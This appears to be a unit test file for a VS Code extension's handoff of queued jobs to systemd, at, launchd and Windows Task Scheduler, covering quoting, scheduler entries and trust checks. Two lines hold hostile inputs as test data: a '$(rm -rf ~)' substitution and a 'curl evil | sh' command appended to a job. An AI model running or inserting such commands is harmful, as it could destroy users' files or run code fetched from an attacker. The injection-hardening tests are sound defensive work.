// What Verdant tells each OS scheduler (#23): systemd-run's arguments, the at(1) script and time, the launchd
// property list, the Task Scheduler XML and its action, and the commands each scheduler class runs for register,
// remove and list (recorded, since systemd, launchd and Task Scheduler cannot run here; at runs for real in
// test/integration/os-scheduler.test.ts).
import * as assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, existsSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  atScript,
  atTime,
  launchdPlist,
  schtasksXml,
  shQuote,
  specDigest,
  systemdRunArgs,
  taskAction,
  taskName,
  winQuote,
  type OsEntry,
} from '../../src/core/scheduling/osEntries';
import {
  AtScheduler,
  detectOsScheduler,
  LaunchdScheduler,
  SchtasksScheduler,
  SystemdScheduler,
  type Exec,
  type ExecResult,
} from '../../src/core/scheduling/osScheduler';
import type { Job, JobSpec } from '../../src/core/scheduling/queue';
import { entryFor, runsWhenClosed } from '../../src/core/scheduling/osHandoff';
import { taskModelFlags } from '../../src/core/localRoles';
import { DEFAULT_SETTINGS } from '../../src/core/settings';
import { runNowPlan } from '../support/jobPlans';

const AT = Date.UTC(2026, 11, 8, 2, 0, 30); // 2026-12-08 02:00:30Z
const entry = (over: Partial<OsEntry> = {}): OsEntry => ({
  id: 'mx1-abc',
  at: AT,
  deadline: AT + 6 * 3_600_000,
  argv: ['/usr/bin/node', '/opt/verdant ext/dist/cli.js', 'run-queued-job', 'mx1-abc', '--queue', "/home/u/it's/jobs", '--sha256', 'ab12'],
  env: {},
  label: 'npm test',
  wake: false,
  ...over,
});

/** Records every command; answers from `answers` by the command's first words, else exit 0 with no output. */
function recorder(answers: Record<string, Partial<ExecResult>> = {}) {
  const calls: { file: string; args: string[]; input?: string; tz?: string; env?: NodeJS.ProcessEnv }[] = [];
  const exec: Exec = async (file, args, options) => {
    calls.push({
      file,
      args: [...args],
      ...(options?.input !== undefined && { input: options.input }),
      ...(options?.env?.TZ && { tz: options.env.TZ, env: options.env }),
    });
    const key = Object.keys(answers).find((k) => `${file} ${args.join(' ')}`.startsWith(k));
    return { code: 0, stdout: '', stderr: '', ...(key ? answers[key] : {}) };
  };
  return { calls, exec };
}

describe('OS scheduler entries (#23)', () => {
  it('systemd: a transient user timer named for the job, at the second in UTC, low priority, collected, no wake unless asked', () => {
    const args = systemdRunArgs(entry({ env: { ELECTRON_RUN_AS_NODE: '1' } }));
    const dash = args.indexOf('--');
    assert.deepEqual(args.slice(dash + 1), entry().argv, 'the command follows --, one argument each, no shell');
    const opts = args.slice(0, dash);
    for (const o of [
      '--user',
      '--unit=verdant-job-mx1-abc',
      '--on-calendar=2026-12-08 02:00:30 UTC',
      '--timer-property=AccuracySec=1s',
      '--property=Nice=10',
      '--collect',
      '--setenv=ELECTRON_RUN_AS_NODE=1',
    ])
      assert.ok(opts.includes(o), `${o} in ${opts.join(' ')}`);
    assert.ok(!opts.some((o) => o.includes('WakeSystem')));
    assert.ok(systemdRunArgs(entry({ wake: true })).includes('--timer-property=WakeSystem=true'));
  });

  it('at: the UTC minute at or after the time, never before; a script that carries the marker and quotes every word', () => {
    assert.equal(atTime(AT), '202612080201', '02:00:30 runs at 02:01, not at 02:00');
    assert.equal(atTime(Date.UTC(2026, 11, 8, 2, 0, 0)), '202612080200');
    const script = atScript(entry({ env: { ELECTRON_RUN_AS_NODE: '1' } }));
    assert.match(script, /^# verdant-job-mx1-abc\n/);
    assert.match(script, /^export ELECTRON_RUN_AS_NODE=1$/m);
    assert.match(
      script,
      /^exec nice -n 10 \/usr\/bin\/node '\/opt\/verdant ext\/dist\/cli\.js' run-queued-job mx1-abc --queue '\/home\/u\/it'\\''s\/jobs' --sha256 ab12 <\/dev\/null >\/dev\/null 2>&1$/m,
    );
    assert.equal(shQuote("a'b c"), `'a'\\''b c'`);
    assert.equal(shQuote('$(rm -rf ~)'), `'$(rm -rf ~)'`, 'nothing a shell would expand');
  });

  it('launchd: a LaunchAgent with the program, its environment and the local month, day, hour and minute, XML-escaped', () => {
    const plist = launchdPlist(entry({ env: { ELECTRON_RUN_AS_NODE: '1' }, argv: ['/bin/a', 'x<&>y'] }), { month: 12, day: 8, hour: 3, minute: 1 });
    assert.match(plist, /<key>Label<\/key><string>dev\.verdant\.job\.mx1-abc<\/string>/);
    assert.match(plist, /<string>\/bin\/a<\/string>\n {4}<string>x&lt;&amp;&gt;y<\/string>/);
    assert.match(plist, /<key>ELECTRON_RUN_AS_NODE<\/key><string>1<\/string>/);
    assert.match(
      plist,
      /<key>Month<\/key><integer>12<\/integer>[\s\S]*<key>Day<\/key><integer>8<\/integer>[\s\S]*<key>Hour<\/key><integer>3<\/integer>[\s\S]*<key>Minute<\/key><integer>1<\/integer>/,
    );
  });

  it('Task Scheduler: one time trigger in UTC, deleted after its deadline, logged-on user only, least privilege, no wake, low priority', () => {
    const xml = schtasksXml(entry());
    assert.match(xml, /^<\?xml version="1\.0" encoding="UTF-16"\?>\r\n/);
    assert.match(xml, /<StartBoundary>2026-12-08T02:00:30Z<\/StartBoundary>/);
    assert.match(xml, /<EndBoundary>2026-12-08T08:00:30Z<\/EndBoundary>/);
    assert.match(xml, /<DeleteExpiredTaskAfter>PT0S<\/DeleteExpiredTaskAfter>/);
    assert.match(xml, /<LogonType>InteractiveToken<\/LogonType>/);
    assert.match(xml, /<RunLevel>LeastPrivilege<\/RunLevel>/);
    assert.match(xml, /<WakeToRun>false<\/WakeToRun>/);
    assert.match(xml, /<StartWhenAvailable>true<\/StartWhenAvailable>/);
    assert.match(xml, /<MultipleInstancesPolicy>IgnoreNew<\/MultipleInstancesPolicy>/);
    assert.match(xml, /<Priority>7<\/Priority>/);
    assert.match(schtasksXml(entry({ wake: true })), /<WakeToRun>true<\/WakeToRun>/);
    assert.match(schtasksXml(entry({ loggedOff: true })), /<LogonType>S4U<\/LogonType>/, 'logged off only when the user opted in');
    assert.match(xml, /<Command>\/usr\/bin\/node<\/Command>/);
    assert.match(
      xml,
      /<Arguments>&quot;\/opt\/verdant ext\/dist\/cli\.js&quot; run-queued-job mx1-abc --queue \/home\/u\/it's\/jobs --sha256 ab12<\/Arguments>/,
    );
    assert.equal(taskName('mx1-abc'), '\\Verdant\\verdant-job-mx1-abc');
  });

  it('Task Scheduler: environment through cmd.exe, and a word cmd would expand or split is refused with the reason', () => {
    const win = entry({ argv: ['C:\\Program Files\\Code\\Code.exe', 'C:\\x\\cli.js', 'run-queued-job', 'id'], env: { ELECTRON_RUN_AS_NODE: '1' } });
    assert.deepEqual(taskAction(win), {
      command: 'cmd.exe',
      arguments: '/d /s /c "set "ELECTRON_RUN_AS_NODE=1"&& "C:\\Program Files\\Code\\Code.exe" "C:\\x\\cli.js" "run-queued-job" "id""',
    });
    assert.throws(() => taskAction({ ...win, argv: ['C:\\a%PATH%\\Code.exe'] }), /cannot be given "C:\\\\a%PATH%\\\\Code.exe" through cmd\.exe/);
    assert.equal(winQuote('C:\\a b\\'), '"C:\\a b\\\\"', 'a trailing backslash is doubled before the closing quote');
    assert.equal(winQuote('say "hi"'), '"say \\"hi\\""');
  });

  it('the digest covers what runs and where it came from, not the window that queued it', () => {
    const spec: JobSpec = { kind: 'shell', command: 'npm test', cwd: '/w', label: 'tests', session: 'a' };
    assert.equal(specDigest(spec), specDigest({ ...spec, session: 'b' }));
    assert.equal(specDigest(spec), specDigest({ label: 'tests', cwd: '/w', command: 'npm test', kind: 'shell' }), 'key order does not matter');
    assert.notEqual(specDigest(spec), specDigest({ ...spec, command: 'npm test; curl evil | sh' }));
    assert.notEqual(specDigest(spec), specDigest({ ...spec, cwd: '/tmp' }));
    assert.match(specDigest(spec), /^[0-9a-f]{64}$/);
  });
});

describe('OS scheduler commands (#23)', () => {
  it('detects systemd, else at, else says what to install; Task Scheduler on Windows, launchd on macOS', async () => {
    const systemd = recorder();
    assert.equal(((await detectOsScheduler({ exec: systemd.exec, platform: 'linux' })) as { kind: string }).kind, 'systemd');
    const at = recorder({ 'systemctl --user': { code: 1, stderr: 'Failed to connect to bus' } });
    assert.equal(((await detectOsScheduler({ exec: at.exec, platform: 'linux' })) as { kind: string }).kind, 'at');
    const noDaemon = recorder({ 'systemctl --user': { code: 1 }, 'pgrep -x atd': { code: 1 } });
    assert.match(
      ((await detectOsScheduler({ exec: noDaemon.exec, platform: 'linux' })) as { unavailable: string }).unavailable,
      /atd is not running: start it/,
    );
    const none = recorder({ 'systemctl --user': { code: 1 }, atq: { code: 127 } });
    assert.match(
      ((await detectOsScheduler({ exec: none.exec, platform: 'linux' })) as { unavailable: string }).unavailable,
      /install the "at" package and start atd/,
    );
    assert.equal(((await detectOsScheduler({ exec: recorder().exec, platform: 'win32' })) as { kind: string }).kind, 'schtasks');
    assert.equal(((await detectOsScheduler({ exec: recorder().exec, platform: 'darwin' })) as { kind: string }).kind, 'launchd');
  });

  it('systemd: register replaces the old unit first; list reads our timers only', async () => {
    const r = recorder({
      'systemctl --user list-units': { stdout: 'verdant-job-a1.timer loaded active waiting x\nverdant-job-b_2.timer loaded\nother.timer loaded\n' },
    });
    const s = new SystemdScheduler({ exec: r.exec });
    await s.register(entry());
    assert.deepEqual(
      r.calls.map((c) => `${c.file} ${c.args.slice(0, 3).join(' ')}`),
      [
        'systemctl --user stop verdant-job-mx1-abc.timer',
        'systemctl --user reset-failed verdant-job-mx1-abc.timer',
        'systemd-run --user --unit=verdant-job-mx1-abc --description=Verdant deferred job: npm test',
      ],
    );
    assert.deepEqual(await s.list(), ['a1', 'b_2']);
    const refused = recorder({ 'systemd-run': { code: 1, stderr: 'Failed to start transient timer unit: Access denied' } });
    await assert.rejects(
      new SystemdScheduler({ exec: refused.exec }).register(entry()),
      /systemd-run --user failed \(exit 1\): Failed to start transient timer unit: Access denied/,
    );
  });

  it('at: registers with TZ=UTC and the script on stdin; finds and removes only the at jobs that carry the marker', async () => {
    const r = recorder({
      atq: { stdout: '7\tTue Dec  8 02:01:00 2026 a u\n8\tTue Dec  8 03:00:00 2026 a u\n' },
      'at -c 7': { stdout: '#!/bin/sh\nexport X=1\n# verdant-job-mx1-abc\nexec nice ...\n' },
      'at -c 8': { stdout: '#!/bin/sh\nbackup.sh\n' },
    });
    const s = new AtScheduler({ exec: r.exec, env: { PATH: '/usr/bin', VSCODE_IPC_HOOK: '/run/vscode.sock', ELECTRON_RUN_AS_NODE: '1' } });
    assert.deepEqual(await s.list(), ['mx1-abc']);
    await s.register(entry());
    const atrm = r.calls.find((c) => c.file === 'atrm');
    assert.deepEqual(atrm?.args, ['7'], "the old entry goes, the user's own at job 8 stays");
    const add = r.calls.find((c) => c.file === 'at' && c.args[0] === '-t')!;
    assert.deepEqual(add.args, ['-t', '202612080201']);
    assert.equal(add.tz, 'UTC');
    assert.deepEqual(add.env, { PATH: '/usr/bin', TZ: 'UTC' }, "not VS Code's own variables");
    assert.equal(add.input, `unset TZ\n${atScript({ ...entry(), at: Date.UTC(2026, 11, 8, 2, 1) })}`, "the job keeps the user's time zone");
    await assert.rejects(
      new AtScheduler({ exec: recorder({ 'at -t': { code: 1, stderr: 'You do not have permission to use at.' } }).exec }).register(entry()),
      /at failed \(exit 1\): You do not have permission to use at\./,
    );
  });

  it('launchd: writes the agent (owner-only) and bootstraps it in the gui domain; remove boots it out and deletes the file', async () => {
    const home = mkdtempSync(path.join(os.tmpdir(), 'verdant-launchd-'));
    const r = recorder();
    const s = new LaunchdScheduler({ exec: r.exec, home, uid: 501 });
    await s.register(entry());
    const file = path.join(home, 'Library', 'LaunchAgents', 'dev.verdant.job.mx1-abc.plist');
    assert.match(readFileSync(file, 'utf8'), /<key>Label<\/key><string>dev\.verdant\.job\.mx1-abc<\/string>/);
    assert.deepEqual(r.calls.at(-1), { file: 'launchctl', args: ['bootstrap', 'gui/501', file] });
    assert.deepEqual(await s.list(), ['mx1-abc']);
    await s.remove('mx1-abc');
    assert.deepEqual(r.calls.at(-1)?.args, ['bootout', 'gui/501/dev.verdant.job.mx1-abc']);
    assert.equal(existsSync(file), false);
    assert.deepEqual(await s.list(), []);
  });

  it("Task Scheduler: /Create with the XML in UTF-16, /Delete tolerates a missing task, /Query lists Verdant's folder only", async () => {
    let xml = '';
    const r = recorder({
      'schtasks /Query': { stdout: '"\\Verdant\\verdant-job-a1","12/8/2026 2:00:30 AM","Ready"\r\n"\\Other\\verdant-job-b2","N/A","Ready"\r\n' },
    });
    const exec: Exec = async (file, args, options) => {
      if (args[0] === '/Create') {
        const bytes = readFileSync(args[args.indexOf('/XML') + 1]!);
        assert.deepEqual([...bytes.subarray(0, 2)], [0xff, 0xfe], 'a UTF-16 byte-order mark');
        xml = bytes.subarray(2).toString('utf16le');
      }
      return r.exec(file, args, options);
    };
    const s = new SchtasksScheduler({ exec });
    await s.register(entry());
    assert.equal(xml, schtasksXml(entry()));
    assert.deepEqual(
      r.calls[0]!.args.filter((a) => !a.endsWith('.xml')),
      ['/Create', '/TN', '\\Verdant\\verdant-job-mx1-abc', '/XML', '/F'],
    );
    assert.deepEqual(await s.list(), ['a1']);
    const gone = recorder({ 'schtasks /Delete': { code: 1, stderr: 'ERROR: The system cannot find the file specified.' } });
    await new SchtasksScheduler({ exec: gone.exec }).remove('a1');
    const denied = recorder({ 'schtasks /Delete': { code: 1, stderr: 'ERROR: Access is denied.' } });
    await assert.rejects(new SchtasksScheduler({ exec: denied.exec }).remove('a1'), /Access is denied/);
  });

  it('refuses an id that is not a job id before running anything', async () => {
    const r = recorder();
    await assert.rejects(new AtScheduler({ exec: r.exec }).register(entry({ id: '../x' })), /is not a job id/);
    await assert.rejects(new SystemdScheduler({ exec: r.exec }).remove('a b'), /is not a job id/);
    assert.deepEqual(r.calls, []);
  });
});

describe('what is handed to the OS scheduler (#23)', () => {
  const job = (spec: JobSpec, state: Job['state'] = 'queued'): Job => ({
    id: 'mx1-abc',
    spec,
    createdAt: AT,
    deadline: AT + 6 * 3_600_000,
    durationMinutes: 30,
    zone: 'FR',
    plan: runNowPlan(AT),
    state,
  });
  const origin = (trusted: boolean) => ({ workspace: 'file:///w', trusted, consent: 'unknown' as const });
  const model = ['--model', '/m/qwen.gguf', '--gpu', 'cpu', '--threads', '2'];
  const summarize: JobSpec = { kind: 'task', task: 'summarize', payload: {}, label: 'summarize a.ts', origin: origin(false) };

  it('a shell job of a trusted origin; a palette task only with a local model; never a planned refactor or a job that left the queue', () => {
    assert.equal(runsWhenClosed(job({ kind: 'shell', command: 'npm test', label: 't', origin: origin(true) }), undefined), true);
    assert.equal(runsWhenClosed(job({ kind: 'shell', command: 'npm test', label: 't' }), undefined), true, 'the CLI’s own jobs');
    assert.equal(runsWhenClosed(job({ kind: 'shell', command: 'npm test', label: 't', origin: origin(false) }), undefined), false);
    assert.equal(runsWhenClosed(job(summarize), model), true, 'local only, so an untrusted window’s task too');
    assert.equal(runsWhenClosed(job(summarize), undefined), false, 'no local model: it waits for a window');
    assert.equal(runsWhenClosed(job({ ...summarize, task: 'refactor' }), model), false);
    assert.equal(runsWhenClosed(job({ kind: 'shell', command: 'npm test', label: 't' }, 'running'), undefined), false);
  });

  it('the entry runs the CLI on the job with its digest, two minutes after it is due in VS Code; a task’s names its model', () => {
    const launcher = { program: '/usr/bin/code', script: '/ext/dist/cli.js', env: { ELECTRON_RUN_AS_NODE: '1' } };
    const shell = entryFor(job({ kind: 'shell', command: 'npm test', label: 't' }), '/s/jobs', launcher, {
      delayMs: 120_000,
      wake: false,
      taskModel: model,
    });
    assert.deepEqual(shell.argv, [
      '/usr/bin/code',
      '/ext/dist/cli.js',
      'run-queued-job',
      'mx1-abc',
      '--queue',
      '/s/jobs',
      '--sha256',
      specDigest({ kind: 'shell', command: 'npm test', label: 't' }),
    ]);
    assert.equal(shell.at, AT + 120_000);
    assert.deepEqual(shell.env, { ELECTRON_RUN_AS_NODE: '1' });
    const task = entryFor(job(summarize), '/s/jobs', launcher, { delayMs: 0, wake: true, taskModel: model });
    assert.deepEqual(task.argv.slice(-6), model);
    assert.equal(task.wake, true);
    const overdue = entryFor(job(summarize), '/s/jobs', launcher, { delayMs: 120_000, wake: false, now: AT + 3_600_000 });
    assert.equal(overdue.at, AT + 3_600_000 + 5_000, 'an overdue job: a few seconds from now, never a time already past');
  });

  it('the planner model’s flags, or the completion model it borrows; none for a server backend', () => {
    const local = { ...DEFAULT_SETTINGS.local, modelPath: '/m/c.gguf', gpu: 'vulkan' as const, threads: 4 };
    assert.deepEqual(taskModelFlags({ ...DEFAULT_SETTINGS, local }), ['--model', '/m/c.gguf', '--gpu', 'vulkan', '--threads', '4']);
    const planner = { ...DEFAULT_SETTINGS.planner, modelPath: '/m/p.gguf', gpu: 'cpu' as const };
    assert.deepEqual(taskModelFlags({ ...DEFAULT_SETTINGS, local, planner }), ['--model', '/m/p.gguf', '--gpu', 'cpu', '--threads', '4']);
    assert.equal(taskModelFlags({ ...DEFAULT_SETTINGS, local: { ...local, backend: 'ollama', serverUrl: 'http://127.0.0.1:11434' } }), undefined);
    assert.equal(taskModelFlags(DEFAULT_SETTINGS), undefined);
  });
});
